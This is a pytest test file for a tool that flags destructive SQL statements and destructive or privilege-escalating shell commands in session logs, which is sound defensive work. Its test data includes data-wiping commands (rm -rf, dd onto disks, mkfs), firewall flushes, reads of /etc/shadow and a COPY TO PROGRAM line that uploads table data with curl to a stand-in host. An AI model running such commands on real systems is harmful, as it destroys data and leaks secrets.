"""Destructive statements and escalating commands are named, however they are written."""

from __future__ import annotations

import pytest

from bastion.reports.commandcheck import destructive_command, escalating
from bastion.reports.sqlcheck import destructive_statement
from bastion.ssh.streams import programs


@pytest.mark.parametrize(("sql", "tag", "why"), [
    ("DROP TABLE invoices", "DROP TABLE", "DROP"),
    ("truncate invoices", "TRUNCATE TABLE", "TRUNCATE"),
    ("ALTER ROLE app SUPERUSER", "ALTER ROLE", "ALTER ROLE"),
    ("GRANT ALL ON invoices TO public", "GRANT", "GRANT"),
    ("DELETE FROM invoices", "DELETE", "DELETE without WHERE"),
    ("delete from invoices where true", "DELETE", "DELETE without WHERE"),
    ("UPDATE invoices SET paid = $1 WHERE 1 = 1", "UPDATE", "UPDATE without WHERE"),
    ("WITH x AS (SELECT 1) UPDATE invoices SET paid = true", "UPDATE", "UPDATE without WHERE"),
    ("DELETE FROM invoices WHERE id = $1", "DELETE", None),
    ("UPDATE invoices SET paid = true WHERE id IN (SELECT id FROM t)", "UPDATE", None),
    ("SELECT * FROM invoices", "SELECT", None),
    ("DELETE FROM invoices ??? broken", "DELETE", "DELETE without WHERE"),
    ("BEGIN; TRUNCATE customers; COMMIT", "BEGIN", "TRUNCATE"),
    ("SELECT 1; DROP TABLE payments", "SELECT", "DROP"),
    ("EXPLAIN ANALYZE DELETE FROM invoices", "EXPLAIN", "DELETE without WHERE"),
    ("WITH d AS (DELETE FROM users RETURNING 1) SELECT count(*) FROM d", "SELECT",
     "DELETE without WHERE"),
    ("DECLARE c CURSOR FOR WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d",
     "DECLARE CURSOR", "DELETE without WHERE"),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", "DO", "a DO block"),
    ("PREPARE p AS DELETE FROM users", "PREPARE", "DELETE without WHERE"),
    ("ALTER TABLE users DROP COLUMN email", "ALTER TABLE", "DROP COLUMN"),
    ("CREATE ROLE x SUPERUSER", "CREATE ROLE", "CREATE ROLE"),
    ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "MERGE", "MERGE"),
    ("SELECT updated_at FROM invoices", "SELECT", None),
])  # fmt: skip
def test_a_destructive_statement_is_named(sql: str, tag: str, why: str | None) -> None:
    assert destructive_statement(sql, tag) == why


@pytest.mark.parametrize(("command", "found"), [
    ("sudo -u root systemctl restart app", "sudo"),
    ("/usr/bin/sudo ls", "sudo"),
    ("cd /tmp && su - postgres", "su"),
    ("env FOO=1 doas vi /etc/hosts", "doas"),
    ("echo $(sudo cat /etc/shadow)", "sudo"),
])  # fmt: skip
def test_escalating_programs_are_seen_in_a_command_line(command: str, found: str) -> None:
    assert found in programs(command)


def test_a_word_that_merely_mentions_sudo_is_not_a_program() -> None:
    assert "sudo" not in programs("grep sudo /var/log/auth.log")


@pytest.mark.parametrize(("command", "why"), [
    ("rm -rf /var/tmp/x", "rm -rf"), ("rm -Rf /var/lib/postgresql", "rm -rf"),
    ("rm -fR /x", "rm -rf"), ("rm -rvf /x", "rm -rf"), ("rm -r --force /x", "rm -rf"),
    ("rm --recursive -f /x", "rm -rf"), ("rm /data -rf", "rm -rf"), ("'rm' -rf /x", "rm -rf"),
    ("/sbin/shutdown -h now", "shutdown"), ("sudo -n shutdown", "shutdown"),
    ("env shutdown", "shutdown"), ("systemctl poweroff", "shutdown"), ("init 6", "shutdown"),
    ("iptables -t nat -F", "firewall flush"), ("iptables -w -F", "firewall flush"),
    ("nft flush ruleset", "firewall flush"), ("bash -c 'rm -rf /srv'", "rm -rf"),
    ("mkfs.ext4 /dev/sdb1", "disk overwrite"), ("dd if=/dev/zero of=/dev/sda", "disk overwrite"),
    ("rm -r /tmp/x", None), ("rm -f /tmp/x", None), ("echo rm -rf /", None),
    ("grep shutdown /var/log/syslog", None), ("sudo ls -la", None),
])  # fmt: skip
def test_a_destructive_command_is_named_however_its_flags_are_written(
    command: str, why: str | None
) -> None:
    assert destructive_command(command) == why


@pytest.mark.parametrize(("command", "found"), [
    ('bash -c "sudo id"', ["sudo"]), ("sudoedit /etc/shadow", ["sudoedit"]),
    ("systemd-run --uid=0 sh", ["systemd-run"]), ("sudo ls -la", ["sudo"]),
    ("sudo iptables-legacy -F", ["sudo"]), ("ls -la", []),
])  # fmt: skip
def test_escalation_is_seen_inside_shells_and_never_crashes(command: str, found: list[str]) -> None:
    assert escalating(command) == found


# An insider's WHERE that restricts nothing: each touches every row (or every row with a
# value), so it is judged as no WHERE at all. Literals are as the query log keeps them with
# `keep_literals`, and as it redacts them ($1) by default.
@pytest.mark.parametrize("where", [
    "true", "1=1", "id = id", "id IS NOT NULL OR id IS NULL", "'a'='a'", "NOT false",
    "$1 = $2", "NOT $1", "t.id = t.id", "id IS NOT DISTINCT FROM id", "id >= id",
    "status = 'x' OR true", "status = $1 OR $2", "status = $1 OR $2 = $3",
    "paid OR NOT paid", "NOT paid OR paid", "x IS TRUE OR x IS NOT TRUE",
    "id > 0 OR id <= 0", "id = 1 OR id <> 1", "(id = id) AND (1 = 1)",
    "id IN (id, 2)", "name LIKE '%'", "id IS NOT NULL", "lower(name) = lower(name)",
    "coalesce(id, 0) = coalesce(id, 0) AND true", "NOT (id <> id)",
    "id = id OR status = 'x'", "EXISTS (SELECT 1)",
    "id IN (SELECT id FROM invoices)",
])  # fmt: skip
def test_a_where_that_is_always_true_is_no_where(where: str) -> None:
    assert destructive_statement(f"DELETE FROM invoices WHERE {where}", "DELETE") == (
        "DELETE without WHERE"
    )
    assert destructive_statement(f"UPDATE invoices SET paid = true WHERE {where}", "UPDATE") == (
        "UPDATE without WHERE"
    )


# Ordinary WHEREs a reviewer need not see as destructive: each restricts the rows.
@pytest.mark.parametrize("where", [
    "id = $1", "id = 42", "id IN ($1, $2)", "status = 'x' AND id > 10", "created_at < $1",
    "customer_id = $1 OR customer_id = $2", "id = ANY($1)", "name LIKE 'a%'",
    "paid AND NOT refunded", "id IS NULL", "t.id = u.id", "deleted_at IS NOT NULL AND id = 3",
    "id IN (SELECT invoice_id FROM refunds WHERE at < $1)", "lower(name) = $1",
    "id BETWEEN $1 AND $2", "NOT (id = $1)", "a.x = b.x OR a.y = b.y", "CURRENT OF c",
    "EXISTS (SELECT 1 FROM refunds r WHERE r.invoice_id = invoices.id)",
])  # fmt: skip
def test_an_ordinary_where_is_not_flagged(where: str) -> None:
    assert destructive_statement(f"DELETE FROM invoices WHERE {where}", "DELETE") is None
    assert destructive_statement(f"UPDATE invoices SET paid = true WHERE {where}", "UPDATE") is None


@pytest.mark.parametrize(("sql", "tag", "why"), [
    ("DELETE FROM invoices USING refunds WHERE true", "DELETE", "DELETE without WHERE"),
    ("DELETE FROM invoices i USING refunds r WHERE i.id = i.id", "DELETE",
     "DELETE without WHERE"),
    ("WITH d AS (DELETE FROM invoices WHERE 1 = 1 RETURNING *) SELECT * FROM d", "SELECT",
     "DELETE without WHERE"),
    ("EXPLAIN ANALYZE UPDATE invoices SET paid = true WHERE id = id", "EXPLAIN",
     "UPDATE without WHERE"),
    ("PREPARE p AS DELETE FROM invoices WHERE $1 OR id = $2", "PREPARE",
     "DELETE without WHERE"),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE", "MERGE"),
    ("DO $$ BEGIN DELETE FROM t WHERE id = 1; END $$", "DO", "a DO block"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM invoices WHERE true'",
     "CREATE FUNCTION", "DELETE without WHERE"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS 'BEGIN NULL; END'",
     "CREATE FUNCTION", "a function body (not analysed)"),
    ("CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM invoices; END",
     "CREATE PROCEDURE", "DELETE without WHERE"),
    ("CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS 'SELECT a + 1'",
     "CREATE FUNCTION", None),
    ("COPY invoices FROM PROGRAM 'rm -rf /var/lib/postgresql'", "COPY", "COPY PROGRAM"),
    ("COPY (SELECT * FROM invoices) TO PROGRAM 'curl -T - https://x.example'", "COPY",
     "COPY PROGRAM"),
    ("COPY invoices TO STDOUT", "COPY", None),
    ("COPY invoices FROM PROGRAM $1 WITH (FORMAT ???)", "COPY", "COPY PROGRAM"),
    ("DELETE FROM invoices WHERE 1=1 AND AND broken", "DELETE", "DELETE without WHERE"),
    ("DELETE FROM invoices WHERE id = id AND AND broken", "DELETE", "DELETE without WHERE"),
    ("DELETE FROM invoices WHERE id = 7 AND AND broken", "DELETE", None),
])  # fmt: skip
def test_destructive_statements_are_found_where_they_hide(
    sql: str, tag: str, why: str | None
) -> None:
    assert destructive_statement(sql, tag) == why


# Commands the log holds in shapes a plain reading missed: a pasted block (one command with
# newlines), a shell keyword before the program, an editor's, pager's or client's shell escape.
@pytest.mark.parametrize(("command", "why"), [
    ("ls -la\nrm -rf /srv/app", "rm -rf"), ("cd /srv\n\nrm -rf app\n", "rm -rf"),
    ("cat <<EOF\nx\nEOF\nrm -rf /y", "rm -rf"), ("for f in a b; do rm -rf /$f; done", "rm -rf"),
    ("if true; then shutdown -h now; fi", "shutdown"), ("while :; do iptables -F; done",
                                                        "firewall flush"),
    (":!rm -rf /srv/app", "rm -rf"), (":%!rm -rf /srv", "rm -rf"), (":r !rm -rf /x", "rm -rf"),
    (":w !sudo shutdown now", "shutdown"), ("!rm -rf /srv", "rm -rf"),
    ("\\! rm -rf /srv", "rm -rf"), ("shell rm -rf /srv", "rm -rf"),
    ("ls \\\n  -la", None), ('echo "a\nrm -rf /"', None), (":wq", None), ("!ls", None),
])  # fmt: skip
def test_a_destructive_command_is_named_in_a_paste_a_loop_or_an_escape(
    command: str, why: str | None
) -> None:
    assert destructive_command(command) == why


@pytest.mark.parametrize(("command", "found"), [
    ("ls\nsudo -i", ["sudo"]), (":!sudo id", ["sudo"]), (":w !sudo tee %", ["sudo"]),
    ("\\! su - postgres", ["su"]), ("if true; then doas sh; fi", ["doas"]),
])  # fmt: skip
def test_escalation_is_seen_in_a_paste_or_an_escape(command: str, found: list[str]) -> None:
    assert escalating(command) == found
